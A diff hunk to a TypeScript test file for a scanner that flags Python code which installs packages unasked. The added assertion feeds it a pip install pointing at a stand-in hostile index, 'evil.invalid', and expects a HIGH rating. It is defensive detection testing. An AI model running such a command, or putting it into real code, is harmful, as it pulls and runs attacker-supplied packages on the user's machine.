@@ -266,5 +266,8 @@ test('a command that installs the project it stands in', () => {
   const code = (what: string): string =>
     `import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", ${what}])`;
   expect(found(code('"-e", "."'))['packages-installed-unasked']).toBeUndefined();
+  expect(
+    found(code('"-e", ".", "--index-url", "https://evil.invalid/simple"'))['packages-installed-unasked'],
+  ).toBe('HIGH');
   expect(found(code('"other"'))['packages-installed-unasked']).toBe('MEDIUM');
 });
